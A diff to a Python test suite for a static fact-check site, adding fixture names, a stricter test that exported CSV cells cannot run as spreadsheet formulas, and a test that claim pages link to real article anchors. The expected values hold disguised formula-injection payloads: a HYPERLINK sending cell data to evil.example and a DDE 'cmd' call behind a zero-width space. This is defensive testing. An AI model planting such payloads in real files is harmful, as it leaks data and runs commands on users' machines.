@@ -86,9 +86,9 @@ FIELD_CASES = {
         "id (file name)": ["aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.yaml", "оutput-rose.yaml", "Bad_Name.yaml", "2.yaml", "index.yaml", "wrong-extension.yml"],
         "id": ["lookalike-id-field.yaml"],
         "title": ["script-in-title.yaml", "non-bmp-every-field.yaml", "noncharacter-in-title.yaml", "lone-surrogate.yaml", "entity-in-title.yaml", "yaml-escape-in-title.yaml", "multiline-title.yaml",
-                  "title-csv-formula.yaml",
+                  "title-csv-formula.yaml", "csv-formula-disguised.yaml",
                   "title-too-long.yaml", "title-jinja-markdown.yaml", "title-zero-width.yaml"],
-        "quote": ["quote-spans-markup.yaml", "non-bmp-every-field.yaml", "quote-markdown-link.yaml", "quote-jinja.yaml", "quote-div-breakout.yaml",
+        "quote": ["quote-inside-quote.yaml", "quote-spans-markup.yaml", "non-bmp-every-field.yaml", "quote-markdown-link.yaml", "quote-jinja.yaml", "quote-div-breakout.yaml",
                   "bidi-isolate-in-quote.yaml", "quote-vs-zero-width.yaml"],
         "article": ["jinja-in-article-id.yaml", "quote-in-front-matter-article.yaml"],
         "claimant": ["markup-in-claimant.yaml", "non-bmp-every-field.yaml", "noncharacters-every-field.yaml", "claimant-attribute-breakout.yaml", "claimant-lookalike.yaml",
@@ -139,7 +139,7 @@ FIELD_CASES = {
                          "comment-only-front-matter.md", "empty-front-matter-yaml-body.md", "front-matter-list.md",
                          "python-tag-front-matter.md", "billion-laughs-front-matter.md", "tab-in-front-matter.md",
                          "unknown-field-onload.md", "crlf-line-endings.md"],
-        "body": ["script-in-body.md", "non-bmp-every-field.md", "noncharacter-body.md", "html-comment-body.md", "markdown-in-body.md", "jinja-in-body.md",
+        "body": ["line-separators-body.md", "script-in-body.md", "non-bmp-every-field.md", "noncharacter-body.md", "html-comment-body.md", "markdown-in-body.md", "jinja-in-body.md",
                  "long-line-body.md", "huge-body.md", "binary-body.md", "not-utf8-body.md", "bom-article.md",
                  "empty-body.md", "rtl-override-body.md", "zero-width-body.md", "control-chars-body.md",
                  "div-breakout-body.md", "quote-spans-markup.md"],
@@ -419,9 +419,18 @@ def test_open_data_and_feeds_parse(accepted: AcceptedSite) -> None:
 
 def test_open_data_csv_cells_cannot_run_as_formulas(accepted: AcceptedSite) -> None:
     rows = list(csv.DictReader(io.StringIO((accepted.out / "data" / "claims.csv").read_text(encoding="utf-8"))))
+    starts = "=+-@\uff1d\uff0b\uff0d\uff20"
     formulas = [(row["id"], column, value) for row in rows for column, value in row.items()
-                if value and value[0] in "=+-@\t\r"]
+                if value and (value.lstrip("".join(INVISIBLE) + " ")[:1] in starts or value[0] in "\t\r")]
     assert not formulas, formulas
+    disguised = next(row for row in rows if row["id"] == "csv-formula-disguised")
+    assert (disguised["title"], disguised["claimant"], disguised["summary"][:3]) == (
+        "'＝HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Output rose by 40% last year\")",
+        "'\u200b=cmd|' /C calc'!A0", "'\ufeff\u2060")
+
+
+# what a spreadsheet skips before reading a formula: invisible characters a contributor may put first
+INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e"]
 
 
 def test_every_claimant_gets_a_page_of_their_own(accepted: AcceptedSite) -> None:
@@ -434,6 +443,23 @@ def test_every_claimant_gets_a_page_of_their_own(accepted: AcceptedSite) -> None
         assert f"Claims by {claim.claimant} " in PageScan(page).content_text
     shared = {slug: sorted(names) for slug, names in names_by_slug.items() if len(names) > 1}
     assert not shared, f"different claimants share a page: {shared}"
+
+
+def test_every_link_to_a_quote_in_its_article_lands_on_an_anchor(scans: dict[str, tuple[str, PageScan]]) -> None:
+    """Many accepted claims quote the same words, or words inside another's quote: each claim page's
+    "see the quote in the article" link must reach an id that exists on the article page."""
+    ids_of: dict[str, set[str]] = {}
+    checked = 0
+    for page, (html, _) in scans.items():
+        if not page.startswith("claims/"):
+            continue
+        for article, anchor in re.findall(r'href="\.\./\.\./articles/([^/"]+)/#([^"]+)"', html):
+            if article not in ids_of:
+                ids_of[article] = {e.attrs["id"] for e in scans[f"articles/{article}/index.html"][1].elements
+                                   if "id" in e.attrs}
+            assert anchor in ids_of[article], f"{page}: #{anchor} is not on articles/{article}/"
+            checked += 1
+    assert checked > 40, checked
 
 
 def test_non_bmp_text_is_the_page_title_and_description(scans: dict[str, tuple[str, PageScan]]) -> None:
